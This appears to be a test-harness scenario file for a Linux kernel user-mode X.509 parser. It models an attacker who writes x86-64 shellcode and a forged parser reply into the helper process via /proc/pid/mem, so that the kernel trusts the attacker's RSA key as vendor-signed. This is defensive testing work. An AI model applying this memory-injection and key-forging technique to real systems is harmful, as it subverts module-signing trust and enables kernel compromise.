# SPDX-License-Identifier: GPL-2.0-only
"""What is at stake: what the kernel believes when a handler that parses for it has been taken over.

These scenarios exist only for the handler that they name (STAKES of this package).
"""

from __future__ import annotations

import struct
from errno import EACCES, EPERM, ESRCH
from hashlib import sha256
from os import O_RDWR
from typing import TYPE_CHECKING

from harness.attacker.tools.keyrings import add_certificate, trusted_keyring, verify
from harness.attacker.tools.memory import expect_memory
from harness.model.verdict import Effect
from harness.scenarios.registry import scenario
from harness.witness.tally import Violation

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.witness.handler import Handler

VENDOR = "/etc/vendor.der"
"""A certificate that a key in the kernel has signed (harness/guests/initramfs.py)."""
MESSAGE = b"a module that nobody has signed"

_REPLY = struct.Struct("<iIqqII16s8s16s8s" + 15 * "2I")
"""struct umd_x509 (overlay/tools/umd/x509.h)."""
_OID_RSA = 10
"""OID_rsaEncryption of the kernel's enum OID."""
_KEPT = 4096
"""Where in the handler's arena the forged reply lies: no certificate takes as much of it."""
_RETURN_IT = "48c7c6{source}4889d7b9{size}f3a431c0c3"
"""x86-64: mov $source, %rsi; mov %rdx, %rdi; mov $size, %ecx; rep movsb; xor %eax, %eax; ret."""


@scenario(
    effect=Effect.INTEGRITY,
    shows=Violation.BELIEVED.word,
    surface="proc-mem-write",
    answers=("T5", "T12", "C14"),
    call="openat",
    refused=(EPERM, EACCES),
    no_target=(ESRCH,),
    no_target_at="mm_access",
    reach="security_ptrace_access_check",
)
def forged_key(attacker: Attacker, handler: Handler) -> None:
    """Have the kernel trust the attacker's key, as if a vendor's certificate had it.

    The attacker overwrites the handler's parser. For a vendor's certificate with the attacker's key
    behind it, the parser replies what the certificate holds, but for the key. The kernel checks the
    vendor's signature, adds the key, and verifies the attacker's signature with it.
    """
    with attacker.setup():
        vendor = attacker.read_file(VENDOR)
        public, signature = own_key(MESSAGE)
        ring = trusted_keyring(attacker)
        place = handler.symbol("arena") + _KEPT
        reply = forged_reply(vendor, public)
        code = _RETURN_IT.format(source=_le32(place), size=_le32(len(reply)))
    expect_memory(attacker, handler.pid)
    with attacker.open(f"/proc/{handler.pid}/mem", O_RDWR) as memory:
        memory.pwrite(reply, place)
        memory.pwrite(bytes.fromhex(code), handler.symbol("umd_x509_parse"))
    key = add_certificate(attacker, vendor + public, ring)
    verify(attacker, key, sha256(MESSAGE).digest(), signature)


def _le32(number: int) -> str:
    return struct.pack("<I", number).hex()


def own_key(message: bytes) -> tuple[bytes, bytes]:
    """Make an RSA key; return its public half (RFC 8017, RSAPublicKey) and a signature by it."""
    from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
    from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key
    from cryptography.hazmat.primitives.hashes import SHA256
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    key = generate_private_key(65537, 2048)
    public = key.public_key().public_bytes(Encoding.DER, PublicFormat.PKCS1)
    return public, key.sign(message, PKCS1v15(), SHA256())


def forged_reply(vendor: bytes, key: bytes) -> bytes:
    """Return the handler's reply to a certificate and a key behind it: all is true but the key."""
    from cryptography.x509 import (
        AuthorityKeyIdentifier,
        SubjectKeyIdentifier,
        load_der_x509_certificate,
    )

    known = load_der_x509_certificate(vendor)
    authority = known.extensions.get_extension_for_class(AuthorityKeyIdentifier).value
    subject = known.extensions.get_extension_for_class(SubjectKeyIdentifier).value

    def span(part: bytes | None) -> tuple[int, int]:
        return (vendor.index(part), len(part)) if part else (0, 0)

    name = known.subject.public_bytes()[2:]  # without the header of a short name
    spans = [
        span(known.tbs_certificate_bytes),
        span(known.signature),
        span(known.serial_number.to_bytes(20, "big").lstrip(b"\0")),
        span(known.issuer.public_bytes()[2:]),
        span(name),
        (len(vendor), len(key)),
        span(b"\5\0"),  # the parameters of RSA
        span(subject.digest),
        (0, 0),
        (0, 0),
        span(authority.key_identifier),
        *(2 * [(0, 0), span(name[-8:])]),
    ]
    algorithms = b"rsa", b"rsa", b"sha256", b"pkcs1"
    return _REPLY.pack(0, 0, 0, 0, _OID_RSA, 0, *algorithms, *(n for pair in spans for n in pair))
